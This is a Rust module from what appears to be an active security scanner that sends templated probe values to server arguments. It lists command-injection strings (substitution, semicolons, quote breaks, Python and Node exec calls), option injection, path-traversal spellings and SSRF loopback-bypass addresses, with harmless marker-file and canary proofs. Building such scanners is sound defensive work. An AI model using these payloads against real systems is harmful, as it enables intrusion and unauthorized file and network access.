//! The values that are sent. `{…}` are places that the prober fills in; the unfilled text is what reports show.

use super::arguments::Argument;
use crate::scan::{Rule, Severity, active};

/// What proves an attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Proof {
    /// A marker file appeared, or the result of a calculation came back.
    Ran,
    /// A marker file appeared.
    Made,
    /// The content of a planted file came back, or the file was changed.
    Touched,
    /// The canary on loopback received a request.
    Reached,
}

/// One attack.
#[derive(Debug)]
pub struct Attack {
    /// The rule that it proves.
    pub rule: &'static Rule,
    /// How bad it is.
    pub severity: Severity,
    /// Its name in reports.
    pub id: &'static str,
    /// The value, with places.
    pub template: &'static str,
    /// What proves it.
    pub proof: Proof,
}

impl Attack {
    /// The rules of which nothing more is proven once this is: a tool that runs commands on purpose evades no check.
    pub fn settles(&self) -> &'static [&'static str] {
        match self.rule.id {
            "scan.runs-commands" if self.id.starts_with(OPTION) => &["scan.argument-injection", "scan.runs-commands"],
            "scan.runs-commands" => &["scan.command-injection", "scan.argument-injection", "scan.runs-commands"],
            _ => std::slice::from_ref(&self.rule.id),
        }
    }

    /// Whether it goes through a link within the folder.
    pub fn is_link(&self) -> bool {
        self.template.contains("{link}")
    }

    /// The value with its places filled in.
    pub fn filled(&self, places: &[(&str, &str)]) -> String {
        places.iter().fold(self.template.to_owned(), |text, (name, value)| text.replace(name, value))
    }
}

/// The id of an attack that distinguishes a server without a check from one whose check is evaded.
pub const PLAIN: &str = "plain";
/// What the ids of options begin with that a tool takes on purpose.
const OPTION: &str = "option";

/// What the prober has.
#[derive(Clone, Copy, Debug, Default)]
pub struct Supplies {
    /// Files planted in the folder that the server serves, and around it.
    pub folder: bool,
    /// A canary on `[::1]`.
    pub v6: bool,
    /// A site that the server may fetch.
    pub site: bool,
}

/// Attacks on one argument, in order: after the first proof of a rule the others of that rule are left out.
pub fn attacks(argument: &Argument, supplies: Supplies) -> Vec<&'static Attack> {
    let mut all: Vec<&'static Attack> = Vec::new();
    if argument.runs {
        all.extend(RUN);
    }
    all.extend(COMMANDS);
    all.extend(if argument.takes_options { TAKEN } else { OPTIONS });
    // A program that takes options takes files, too.
    if supplies.folder && !argument.takes_options && (argument.is_path || !argument.is_url) {
        // Every spelling only where a path is expected.
        all.extend(PATHS.iter().filter(|one| argument.is_path || ["dots", "absolute"].contains(&one.id)));
    }
    if argument.is_url || !argument.is_path {
        let suits = |one: &&Attack| match one.id {
            PLAIN => true,
            // Every spelling only where an address is expected.
            _ if !argument.is_url => false,
            "ipv6" => supplies.v6,
            "redirect" => supplies.site,
            _ => true,
        };
        all.extend(ADDRESSES.iter().filter(suits));
    }
    all
}

/// Attacks on the last part of a resource's URI.
pub fn on_resources() -> impl Iterator<Item = &'static Attack> {
    PATHS.iter().filter(|one| !one.template.contains("file://"))
}

const fn runs(id: &'static str, template: &'static str) -> Attack {
    Attack { rule: &active::COMMANDS, severity: Severity::High, id, template, proof: Proof::Ran }
}

const fn option(id: &'static str, template: &'static str) -> Attack {
    Attack { rule: &active::OPTIONS, severity: Severity::High, id, template, proof: Proof::Made }
}

const fn path(id: &'static str, template: &'static str) -> Attack {
    Attack { rule: &active::TRAVERSAL, severity: Severity::High, id, template, proof: Proof::Touched }
}

const fn address(id: &'static str, template: &'static str) -> Attack {
    Attack { rule: &active::SSRF, severity: Severity::High, id, template, proof: Proof::Reached }
}

const fn meant(id: &'static str, template: &'static str) -> Attack {
    Attack { rule: &active::SHELL, severity: Severity::Info, id, template, proof: Proof::Made }
}

/// A tool that runs commands or code does what it says: worth knowing, no weakness.
const RUN: &[Attack] = &[
    meant(PLAIN, "touch {marker}"),
    meant("plain-python", "__import__('os').system('touch {marker}')"),
    meant("plain-javascript", "process.getBuiltinModule('child_process').execSync('touch {marker}')"),
    meant("plain-require", "require('child_process').execSync('touch {marker}')"),
];

/// So does one that takes options.
const TAKEN: &[Attack] = &[meant(OPTION, "--output={marker}"), meant("option-short", "-o{marker}")];

const COMMANDS: &[Attack] = &[
    runs("substitution", "$(touch {marker}; echo {sum})"),
    runs("backtick", "`touch {marker}; echo {sum}`"),
    runs("semicolon", "x; touch {marker}; echo {sum} #"),
    runs("pipe", "x | touch {marker} #"),
    runs("double-quote", "x\"; touch {marker}; echo {sum}; echo \""),
    runs("single-quote", "x'; touch {marker}; echo {sum}; echo '"),
    runs("newline", "x\ntouch {marker}; echo {sum}\n"),
    runs("quoted-newline", "x\"\ntouch {marker}; echo {sum}\n: \""),
    runs("python", "__import__('os').system('touch {marker}')"),
    runs("javascript", "process.getBuiltinModule('child_process').execSync('touch {marker}')"),
];

const OPTIONS: &[Attack] = &[option("long-option", "--output={marker}"), option("short-option", "-o{marker}")];

/// A link within the folder: someone must have made it.
pub const LINK: Attack = Attack {
    rule: &active::TRAVERSAL,
    severity: Severity::Medium,
    id: "link",
    template: "{link}",
    proof: Proof::Touched,
};

const PATHS: &[Attack] = &[
    path("dots", "../{canary}"),
    path("dots-inside", "x/../../{canary}"),
    path("dots-doubled", "....//{canary}"),
    path("dots-after-folder", "{folder}/../{canary}"),
    path("absolute", "{parent}/{canary}"),
    path("file-url", "file://{parent}/{canary}"),
    path("encoded-dots", "%2e%2e%2f{canary}"),
    path("encoded-slash", "..%2f{canary}"),
    path("mixed-dots", ".%2e/{canary}"),
    path("encoded-twice", "%252e%252e%252f{canary}"),
    path("nul", "../{canary}\0.txt"),
    path("backslash", "..\\{canary}"),
    path("prefix", "../{sibling}/{canary}"),
    path("prefix-absolute", "{folder}-{sibling-end}/{canary}"),
    LINK,
    Attack {
        rule: &active::TRAVERSAL,
        severity: Severity::Medium,
        id: "link-absolute",
        template: "{folder}/{link}",
        proof: Proof::Touched,
    },
];

const ADDRESSES: &[Attack] = &[
    // Nothing is refused: the server fetches every address.
    Attack {
        rule: &active::SSRF,
        severity: Severity::Medium,
        id: PLAIN,
        template: "http://127.0.0.1:{port}/{token}",
        proof: Proof::Reached,
    },
    address("host-name", "http://localhost:{port}/{token}"),
    address("decimal", "http://2130706433:{port}/{token}"),
    address("hexadecimal", "http://0x7f000001:{port}/{token}"),
    address("octal", "http://0177.0.0.1:{port}/{token}"),
    address("short", "http://127.1:{port}/{token}"),
    address("zero", "http://0.0.0.0:{port}/{token}"),
    address("full-width", "http://１２７.0.0.1:{port}/{token}"),
    address("ipv6", "http://[::1]:{port}/{token}"),
    address("ipv4-in-ipv6", "http://[::ffff:127.0.0.1]:{port}/{token}"),
    address("user-name", "http://user@127.0.0.1:{port}/{token}"),
    // An argument that takes hosts alone has refused nothing yet.
    Attack {
        rule: &active::SSRF,
        severity: Severity::Medium,
        id: "no-scheme",
        template: "127.0.0.1:{port}/{token}",
        proof: Proof::Reached,
    },
    address("redirect", "{site}/redirect/{token}"),
];
